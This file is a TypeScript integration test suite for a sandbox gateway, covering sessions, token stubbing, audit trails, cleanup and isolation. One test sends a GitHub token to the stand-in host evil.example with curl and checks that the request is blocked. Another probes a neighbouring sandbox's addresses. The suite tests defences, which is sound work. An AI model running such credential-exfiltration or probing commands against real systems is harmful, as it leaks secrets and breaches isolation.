// Sessions end to end on the local runtime (issue 4, Proof 2): a shell session attached through the
// gateway's WebSocket, a per-session GITHUB_TOKEN that the sandbox only sees as a stub, the audit
// trail, delete leaving nothing behind, and 20 concurrent sessions isolated from one another.
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { connect as connectTcp } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SandboxHandle } from '../../gateway/runtime/types.ts';
import { startFakeUpstream, type FakeUpstream } from '../support/fake-upstream.ts';
import { rawExchange } from '../support/raw-http.ts';
import { vaultRefusals } from '../support/vault-refusals.ts';
import { apiClient, startTestGateway, type TestGateway } from '../support/gateway.ts';
import { isRoot, warnIfSkipped } from '../support/root.ts';
import { TtyViewer } from '../sandbox-agent/tty-client.ts';

warnIfSkipped('gateway sessions (local runtime)');
const REAL_TOKEN = 'ghp_RealTokenValue0123456789abcdefABCDEF';

describe.runIf(isRoot)('sessions on the local runtime', () => {
  let upstream: FakeUpstream;
  let gw: TestGateway;

  beforeAll(async () => {
    upstream = await startFakeUpstream();
    const target = `127.0.0.1:${upstream.httpsPort}`;
    gw = await startTestGateway({ vaultHosts: { 'api.github.com': target, 'evil.example': target }, extraCaPem: upstream.caPem, warmPool: 'shell=1' });
    // The fakes listen on loopback: like any private upstream, they must be named in allow_private.
    const egress_policy = { default: 'allow', allow: [], deny: [], allow_private: ['api.github.com', 'evil.example'] };
    await gw.json('POST', '/api/v1/managed_agents/agents', { name: 'sh', harness: 'shell', egress_policy }, 201);
  });
  afterAll(async () => {
    await gw?.close();
    await upstream?.close();
  });

  const ttyUrl = (id: string) => `${gw.url.replace('http', 'ws')}/api/v1/managed_agents/sessions/${id}/tty`;
  const attach = (id: string) => TtyViewer.connect(ttyUrl(id), { headers: { authorization: `Bearer ${gw.key}` } });
  const handleOf = (sessionId: string): SandboxHandle => {
    const session = gw.gateway.store.sessions.get(sessionId)!;
    return gw.gateway.store.sandboxes.get(session.sandboxId!)!.handle as SandboxHandle;
  };

  it('swaps a per-session GITHUB_TOKEN on the wire: stub inside, real value upstream, audited, blocked elsewhere', async () => {
    const session = await gw.json('POST', '/api/v1/managed_agents/agents/sh/session?wait=true', { title: 'open a PR', env_vars: { GITHUB_TOKEN: REAL_TOKEN } }, 201);
    expect(session.status, session.failure_reason).toBe('ready');
    const viewer = await attach(session.id);
    viewer.type('echo "tok=$GITHUB_TOKEN"; curl -sS https://api.github.com/user -H "Authorization: Bearer $GITHUB_TOKEN" -o /dev/null -w "code=%{http_code}\\n"\r');
    await viewer.waitForText('code=200');
    viewer.type('curl -sS https://evil.example/user -H "Authorization: Bearer $GITHUB_TOKEN" -o /dev/null -w "evil=%{http_code}\\n"\r');
    await viewer.waitForText('evil=403');
    await viewer.close();

    const stub = /tok=(ghp_\w+)/.exec(viewer.text)?.[1];
    expect(stub).toBeDefined();
    expect(stub).not.toBe(REAL_TOKEN);
    expect(viewer.text).not.toContain(REAL_TOKEN);
    const seen = upstream.received.filter((r) => r.path === '/user').map((r) => String(r.headers.authorization));
    expect(seen).toEqual([`Bearer ${REAL_TOKEN}`]);

    const audit = await waitForAudit(session.id, 2);
    expect(audit.find((e: any) => e.type === 'vault.request')?.data).toMatchObject({ host: 'api.github.com', credentials: ['GITHUB_TOKEN'], decision: 'allow' });
    expect(audit.find((e: any) => e.type === 'vault.blocked')?.data).toMatchObject({ host: 'evil.example', decision: 'block' });
    expect(JSON.stringify(await gw.json('GET', `/api/v1/managed_agents/sessions/${session.id}/events`))).not.toContain(REAL_TOKEN);

    await gw.json('DELETE', `/api/v1/managed_agents/sessions/${session.id}`, undefined, 200);
    const kept = await gw.json('GET', `/api/v1/managed_agents/sessions/${session.id}/audit`);
    expect(kept.data.length).toBeGreaterThanOrEqual(2);
  });

  it('exec runs a command in the session with its env (stubs only), streams stdout and stderr and returns the exit code', async () => {
    const session = await gw.json('POST', '/api/v1/managed_agents/agents/sh/session?wait=true', { env_vars: { GITHUB_TOKEN: REAL_TOKEN } }, 201);
    const exec = (body: object) => gw.call('POST', `/api/v1/managed_agents/sessions/${session.id}/exec`, body);
    const response = await exec({ argv: ['sh', '-c', 'echo "tok=$GITHUB_TOKEN"; pwd; cat; echo oops >&2; exit 3'], stdin: Buffer.from('from stdin\n').toString('base64') });
    expect(response.headers.get('content-type')).toBe('application/x-ndjson');
    const frames = (await response.text()).trim().split('\n').map((line) => JSON.parse(line));
    const text = (type: string) => frames.filter((f) => f.type === type).map((f) => Buffer.from(f.data, 'base64').toString()).join('');
    expect(text('stdout')).toMatch(/^tok=ghp_\w+\n\/.*workspace\nfrom stdin\n$/);
    expect(text('stdout')).not.toContain(REAL_TOKEN);
    expect(text('stderr')).toBe('oops\n');
    expect(frames.at(-1)).toEqual({ type: 'exit', code: 3, signal: null, timedOut: false });

    const refused = await exec({ argv: [] });
    expect(refused.status).toBe(400);
    expect((await refused.json()).error.details[0].field).toBe('argv');
    const outside = await exec({ argv: ['true'], cwd: '../..' });
    expect(outside.status).toBe(403);
    await gw.json('DELETE', `/api/v1/managed_agents/sessions/${session.id}`, undefined, 200);
    const dead = await exec({ argv: ['true'] });
    expect(dead.status).toBe(409);
    expect((await dead.json()).error.message).toMatch(/dead; exec needs a ready session/);
  });

  it('answers a terminal request that is not a WebSocket upgrade with a clear 4xx, and relays a real one', async () => {
    const session = await gw.json('POST', '/api/v1/managed_agents/agents/sh/session?wait=true', {}, 201);
    const path = `/api/v1/managed_agents/sessions/${session.id}/tty`;
    const plain = await gw.call('GET', path);
    expect(plain.status).toBe(426);
    const noKey = await upgradeWithout(gw.url, path, gw.key);
    expect(noKey.status).toBe(400);
    expect(noKey.body).toContain('Sec-WebSocket-Key');
    const viewer = await attach(session.id);
    viewer.type('echo relayed-$((5*5))\r');
    await viewer.waitForText('relayed-25');
    await viewer.close();
    await gw.json('DELETE', `/api/v1/managed_agents/sessions/${session.id}`, undefined, 200);
  });

  it('refuses any other upgrade with the API error shape, and survives malformed and reset ones', async () => {
    const upgradeHeaders = `Authorization: Bearer ${gw.key}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`;
    const malformed = await rawExchange(gw.url, `GET /api/v1/managed_agents/sessions/%E0%A4%A/tty HTTP/1.1\r\nHost: x\r\n${upgradeHeaders}`);
    expect(malformed.head).toMatch(/^HTTP\/1\.1 400 /);
    expect(JSON.parse(malformed.body).error).toMatchObject({ code: 'invalid_request', details: [{ field: 'id' }] });
    const elsewhere = await rawExchange(gw.url, `GET /healthz HTTP/1.1\r\nHost: x\r\n${upgradeHeaders}`);
    expect(elsewhere.head).toMatch(/^HTTP\/1\.1 404 /);
    expect(JSON.parse(elsewhere.body)).toEqual({ error: { code: 'not_found', message: 'no WebSocket route GET /healthz', details: [] } });
    const session = await gw.json('POST', '/api/v1/managed_agents/agents/sh/session?wait=true', {}, 201);
    for (let i = 0; i < 20; i++) {
      const socket = connectTcp(Number(new URL(gw.url).port), '127.0.0.1');
      socket.on('error', () => {});
      socket.write(`GET /api/v1/managed_agents/sessions/${session.id}/tty HTTP/1.1\r\nHost: x\r\n${upgradeHeaders}`, () => socket.resetAndDestroy());
    }
    await new Promise((r) => setTimeout(r, 500));
    expect((await gw.call('GET', '/healthz')).status).toBe(200);
    const dead = await gw.json('DELETE', `/api/v1/managed_agents/sessions/${session.id}`, undefined, 200);
    const refused = await rawExchange(gw.url, `GET /api/v1/managed_agents/sessions/${dead.id}/tty HTTP/1.1\r\nHost: x\r\n${upgradeHeaders}`);
    expect(JSON.parse(refused.body)).toEqual({ error: { code: 'conflict', message: `session ${dead.id} is dead; its terminal is not available`, details: [] } });
  });

  it('an events reader that stalls still gets every event, in order, while more keep coming', async () => {
    const session = await gw.json('POST', '/api/v1/managed_agents/agents/sh/session?wait=true', {}, 201);
    const base = `/api/v1/managed_agents/sessions/${session.id}`;
    /** Every page of a log: how many entries it holds, and the last seq. */
    const readAll = async (log: 'events' | 'audit') => {
      for (let after = 0, count = 0; ; ) {
        const page = await gw.json('GET', `${base}/${log}?after=${after}&limit=1000`);
        count += page.data.length;
        if (page.data.length < 1000) return { count, last: page.last_seq as number };
        after = page.last_seq;
      }
    };
    const response = await fetch(`${gw.url}${base}/events`, { headers: { authorization: `Bearer ${gw.key}`, accept: 'text/event-stream' } });
    const reader = response.body!.getReader();
    // More than a page (1000) of vault.blocked events arrive while the reader stalls.
    const requests = 1_500;
    expect(await (await gw.call('POST', `${base}/exec`, { argv: vaultRefusals(requests) })).text()).toContain('"code":0');
    await waitFor(async () => (await readAll('audit')).count >= requests, `${requests} audit events`);
    const { last } = await readAll('events');

    const seen: number[] = [];
    const decoder = new TextDecoder();
    for (let text = ''; (seen.at(-1) ?? 0) < last; ) {
      const { value, done } = await reader.read();
      if (done) break;
      text += decoder.decode(value, { stream: true });
      for (let end = text.indexOf('\n\n'); end !== -1; end = text.indexOf('\n\n')) {
        const id = /^id: (\d+)$/m.exec(text.slice(0, end))?.[1];
        if (id) seen.push(Number(id));
        text = text.slice(end + 2);
      }
    }
    await reader.cancel();
    expect(seen.slice(0, last)).toEqual(Array.from({ length: last }, (_, i) => i + 1));
    expect((await readAll('audit')).count).toBe(requests);
    await gw.json('DELETE', base, undefined, 200);
  });

  it('a terminal ticket opens its own session once, without a header, and nothing once its key is revoked', async () => {
    const mint = async (name: string) => (await gw.json('POST', '/api/v1/api_keys', { name }, 201)) as { id: string; key: string };
    const carol = await mint('carol');
    const asCarol = apiClient(gw.url, carol.key);
    const session = await asCarol.json('POST', '/api/v1/managed_agents/agents/sh/session?wait=true', {}, 201);
    const other = await asCarol.json('POST', '/api/v1/managed_agents/agents/sh/session?wait=true', {}, 201);
    const ticketFor = async (id: string) => (await asCarol.json('POST', `/api/v1/managed_agents/sessions/${id}/tty_ticket`, undefined, 201)).ticket as string;
    const withTicket = (id: string, ticket: string) => TtyViewer.connect(`${ttyUrl(id)}?ticket=${encodeURIComponent(ticket)}`);

    const ticket = await ticketFor(session.id);
    const viewer = await withTicket(session.id, ticket);
    viewer.type('echo by-ticket-$((3*3))\r');
    await viewer.waitForText('by-ticket-9');
    await viewer.close();
    await expect(withTicket(session.id, ticket)).rejects.toThrow(/401/); // spent
    await expect(withTicket(other.id, await ticketFor(session.id))).rejects.toThrow(/401/); // another session's
    const beforeRevoke = await ticketFor(session.id);
    await gw.json('DELETE', `/api/v1/api_keys/${carol.id}`, undefined, 200);
    await expect(withTicket(session.id, beforeRevoke)).rejects.toThrow(/401/);
    for (const id of [session.id, other.id]) await gw.json('DELETE', `/api/v1/managed_agents/sessions/${id}`, undefined, 200);
  });

  it('/metrics counts sessions and vault refusals as the API shows them; the pool is for admins', async () => {
    const scrape = async () => {
      const text = await (await fetch(`${gw.url}/metrics`)).text();
      return (name: string) => Number(new RegExp(`^${name.replace(/[{}]/g, '\\$&')} (\\S+)$`, 'm').exec(text)?.[1] ?? NaN);
    };
    const session = await gw.json('POST', '/api/v1/managed_agents/agents/sh/session?wait=true', {}, 201);
    const base = `/api/v1/managed_agents/sessions/${session.id}`;
    const blocksBefore = (await scrape())('lap_vault_requests_total{decision="block"}') || 0;
    expect(await (await gw.call('POST', `${base}/exec`, { argv: vaultRefusals(1) })).text()).toContain('"code":0');
    await waitFor(async () => (await gw.json('GET', `${base}/audit`)).data.length > 0, 'the refusal in the audit');

    const metric = await scrape();
    const sessions = (await gw.json('GET', '/api/v1/managed_agents/sessions?limit=100')).data as { status: string }[];
    for (const status of ['ready', 'failed', 'dead']) expect(metric(`lap_sessions{status="${status}"}`), status).toBe(sessions.filter((s) => s.status === status).length);
    expect(metric('lap_vault_requests_total{decision="block"}')).toBe(blocksBefore + 1);
    expect(metric('lap_warm_pool_sandboxes{harness="shell",state="target"}')).toBe(1);

    const pool = (await gw.json('GET', '/api/v1/admin/pool')).data;
    expect(pool).toEqual([{ harness: 'shell', target: 1, warm: expect.any(Number), starting: expect.any(Number) }]);
    const dave = (await gw.json('POST', '/api/v1/api_keys', { name: 'dave' }, 201)).key as string;
    expect((await apiClient(gw.url, dave).call('GET', '/api/v1/admin/pool')).status).toBe(403);
    await gw.json('DELETE', base, undefined, 200);
  });

  it("hides a session from every other non-admin key, on the API and the terminal", async () => {
    const mint = async (name: string) => (await gw.json('POST', '/api/v1/api_keys', { name }, 201)).key as string;
    const [alice, bob] = [await mint('alice'), await mint('bob')];
    const asAlice = apiClient(gw.url, alice);
    const session = await asAlice.json('POST', '/api/v1/managed_agents/agents/sh/session?wait=true', {}, 201);
    const asBob = apiClient(gw.url, bob);
    expect((await asBob.call('GET', `/api/v1/managed_agents/sessions/${session.id}`)).status).toBe(404);
    expect((await asBob.call('DELETE', `/api/v1/managed_agents/sessions/${session.id}`)).status).toBe(404);
    expect((await asBob.json('GET', '/api/v1/managed_agents/sessions')).data).toEqual([]);
    const misspelt = await asAlice.call('GET', '/api/v1/managed_agents/sessions?agent=sh&status=ready');
    expect(misspelt.status).toBe(400);
    expect((await misspelt.json()).error.details).toEqual([{ field: 'agent', message: 'unknown query parameter' }]);
    expect((await asAlice.json('GET', '/api/v1/managed_agents/sessions')).data.map((s: { id: string }) => s.id)).toEqual([session.id]);
    await expect(TtyViewer.connect(ttyUrl(session.id), { headers: { authorization: `Bearer ${bob}` } })).rejects.toThrow(/404/);
    expect((await gw.json('GET', `/api/v1/managed_agents/sessions/${session.id}`)).id).toBe(session.id); // admin sees all
    await asAlice.json('DELETE', `/api/v1/managed_agents/sessions/${session.id}`, undefined, 200);
  });

  it('delete leaves no netns, interface, process, mount or sandbox directory behind', async () => {
    await waitFor(() => gw.gateway.pool.stats()[0]!.warm === 1 && gw.gateway.pool.stats()[0]!.starting === 0, 'the pool to settle');
    const before = hostSnapshot(gw.dataDir);
    const session = await gw.json('POST', '/api/v1/managed_agents/agents/sh/session?wait=true', {}, 201);
    expect(session.status).toBe('ready');
    expect(session.warm).toBe(true);
    const detail = handleOf(session.id).detail as { netns: string; hostInterface: string; dir: string };
    expect(hostSnapshot(gw.dataDir).netns).toContain(detail.netns);
    await gw.json('DELETE', `/api/v1/managed_agents/sessions/${session.id}`, undefined, 200);
    await waitFor(() => gw.gateway.pool.stats()[0]!.warm === 1 && gw.gateway.pool.stats()[0]!.starting === 0, 'the pool to refill');
    // The pool replaced the sandbox it gave away: one new sandbox stands where the old one stood,
    // and nothing of the deleted one is left.
    const after = hostSnapshot(gw.dataDir);
    expect(after.processes.length).toBe(before.processes.length);
    expect(after.mounts.length).toBe(before.mounts.length);
    expect(after.netns).not.toContain(detail.netns);
    expect(after.links.some((l) => l.includes(`${detail.hostInterface}@`))).toBe(false);
    expect(after.processes.some((p) => p.includes(detail.dir))).toBe(false);
    expect(after.mounts.some((m) => m.includes(detail.netns) || m.includes(detail.dir))).toBe(false);
    expect(existsSync(detail.dir)).toBe(false);
  });

  it('starts 20 sessions at once; all become ready and none can reach another one', async () => {
    const created = await Promise.all(Array.from({ length: 20 }, (_, i) => gw.json('POST', '/api/v1/managed_agents/agents/sh/session?wait=true', { title: `s${i}` }, 201)));
    try {
      expect(created.map((s) => s.status)).toEqual(created.map(() => 'ready'));
      const [a, b] = [handleOf(created[0].id), handleOf(created[1].id)];
      const target = b.detail as { sandboxAddress: string; hostAddress: string };
      const probe = `for t in ${target.sandboxAddress}:7070 ${target.hostAddress}:15443 ${target.hostAddress}:15080; do curl -s -m 2 -o /dev/null http://$t && echo reached $t || echo blocked $t; done`;
      const result = await execInSandbox(a, ['sh', '-c', probe]);
      expect(result.split('\n').filter(Boolean)).toEqual([`blocked ${target.sandboxAddress}:7070`, `blocked ${target.hostAddress}:15443`, `blocked ${target.hostAddress}:15080`]);
    } finally {
      await Promise.all(created.map((s) => gw.call('DELETE', `/api/v1/managed_agents/sessions/${s.id}`)));
    }
  });

  async function waitForAudit(id: string, count: number): Promise<any[]> {
    let events: any[] = [];
    await waitFor(async () => (events = (await gw.json('GET', `/api/v1/managed_agents/sessions/${id}/audit`)).data).length >= count, `${count} audit events`);
    return events;
  }
});

async function execInSandbox(handle: SandboxHandle, argv: string[]): Promise<string> {
  const response = await fetch(`${handle.agentUrl}/v1/exec`, { method: 'POST', headers: { authorization: `Bearer ${handle.agentToken}`, 'content-type': 'application/json' }, body: JSON.stringify({ argv, timeoutMs: 20_000 }) });
  const frames = (await response.text()).split('\n').filter(Boolean).map((l) => JSON.parse(l));
  return frames.filter((f) => f.type === 'stdout').map((f) => Buffer.from(f.data, 'base64').toString()).join('');
}

/** What this gateway's sandboxes have on the host (other suites run sandboxes at the same time). */
/** An upgrade request without the WebSocket handshake key, as a broken client would send it. */
function upgradeWithout(base: string, path: string, key: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(`${base}${path}`, { headers: { connection: 'Upgrade', upgrade: 'websocket', authorization: `Bearer ${key}` } });
    req.once('response', (res) => {
      let body = '';
      res.on('data', (chunk) => (body += chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.once('upgrade', () => reject(new Error('upgraded without a key')));
    req.once('error', reject);
    req.end();
  });
}

function hostSnapshot(dataDir: string) {
  const run = (cmd: string, args: string[]) => execFileSync(cmd, args, { encoding: 'utf8' }).split('\n').filter(Boolean);
  return {
    netns: run('ip', ['netns', 'list']).map((l) => l.split(' ')[0]!),
    links: run('ip', ['-o', 'link']),
    processes: run('ps', ['-eo', 'args']).filter((p) => p.includes(dataDir)),
    mounts: readFileSync('/proc/self/mountinfo', 'utf8').split('\n').filter((l) => l.includes(dataDir)),
  };
}

async function waitFor(predicate: () => boolean | Promise<boolean>, what: string, limitMs = 60_000): Promise<void> {
  const deadline = Date.now() + limitMs;
  while (!(await predicate())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}
